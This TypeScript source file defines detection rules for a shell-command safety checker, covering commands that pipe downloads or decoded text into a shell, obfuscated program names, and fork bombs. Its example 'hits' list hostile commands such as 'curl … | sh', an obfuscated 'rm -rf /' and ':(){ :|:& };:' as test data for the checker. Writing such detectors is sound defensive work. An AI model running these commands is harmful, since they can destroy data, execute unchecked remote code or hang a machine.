import { type Rule, rule } from "./rule.ts";

/** The text is not valid shell. */
export const UNPARSEABLE = rule({
  id: "structure.unparseable",
  title: "Invalid shell",
  weight: [3, 4],
  threat: "unreadable_command",
  explanation: "The command is not valid shell, so its effect cannot be known.",
  safer: "Check the quotes and brackets, or split the command into simple ones.",
  hits: ['echo "unclosed', "if true; then"],
  misses: ['echo "closed"', "if true; then echo yes; fi"],
});

/** The command exceeds the limits of an inspection. */
export const OVER_BUDGET = rule({
  id: "structure.over_budget",
  title: "Exceed the limits of an inspection",
  weight: [3, 4],
  threat: "unreadable_command",
  explanation: "The command is too long, too deeply nested or too complex to be judged.",
  safer: "Split it into shorter commands, or put it into a reviewed script.",
  hits: [
    "((((((((((((((((((((((((((((((((((((((((ls))))))))))))))))))))))))))))))))))))))))",
    "{ { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { ls; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; ",
  ],
  misses: ["ls -la", 'echo "$((1 + 2))"'],
});

/** The name of the program is only known when it runs. */
export const HIDDEN_PROGRAM = rule({
  id: "structure.hidden_program",
  title: "Compute the program's name",
  weight: [3, 3],
  threat: "obfuscation",
  explanation: "The program's name is computed, so the program cannot be known.",
  safer: "Write the program's name out.",
  hits: ["/???/r? -rf /", "$PROGRAM -rf /"],
  misses: ["P=ls; $P -la", "/usr/bin/ls -la"],
});

/** A shell or interpreter runs text that the line does not show. */
export const UNSEEN_CODE = rule({
  id: "structure.unseen_code",
  title: "Run code that cannot be seen",
  weight: [3, 3],
  threat: "unseen_code",
  explanation: "A shell or interpreter would run text that cannot be seen beforehand.",
  safer: "Write the text to a file, read it, then run the file.",
  hits: ['python3 -c "$CODE"', "cat script.sh | sh"],
  misses: ["echo 'ls -la' | sh", "python3 -c 'print(1)'"],
});

/** A shell or interpreter runs what came over the network. */
export const DOWNLOADED_CODE = rule({
  id: "network.downloaded_code",
  title: "Run a download at once",
  weight: [5, 4],
  threat: "remote_code_execution",
  explanation: "It runs a download at once, before anybody has seen or checked it.",
  safer: "Download it to a file, check its content and checksum, then run it.",
  hits: ["curl https://x.example/i.sh | sh", "bash <(curl -fsSL http://203.0.113.9/p)"],
  misses: [
    "curl -fsSL https://x.example/a.tgz | tar xz",
    "curl -s https://x.example/a.json | jq .name",
  ],
});

/** A shell or interpreter runs decoded text whose content stays hidden. */
export const DECODED_CODE = rule({
  id: "structure.decoded_code",
  title: "Run decoded code",
  weight: [5, 4],
  threat: "obfuscation",
  explanation: "It decodes text and runs it, which hides the commands.",
  safer: "Send the commands unencoded.",
  hits: ["base64 -d payload.txt | sh", 'eval "$(xxd -r -p payload.hex)"'],
  misses: ["echo aGVsbG8= | base64 -d", "base64 -d token.txt"],
});

/** A function starts copies of itself in the background without end. */
export const FORK_BOMB = rule({
  id: "services.fork_bomb",
  title: "Start a fork bomb",
  weight: [5, 4],
  threat: "denial_of_service",
  explanation: "A fork bomb: it starts copies of itself until the machine stops answering.",
  safer: null,
  hits: [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb"],
  misses: ["f() { echo hi; }; f", "for i in 1 2 3; do echo $i; done"],
});

/** The rules that the walk raises. */
export const STRUCTURE_RULES: readonly Rule[] = [
  UNPARSEABLE,
  OVER_BUDGET,
  HIDDEN_PROGRAM,
  UNSEEN_CODE,
  DOWNLOADED_CODE,
  DECODED_CODE,
  FORK_BOMB,
];
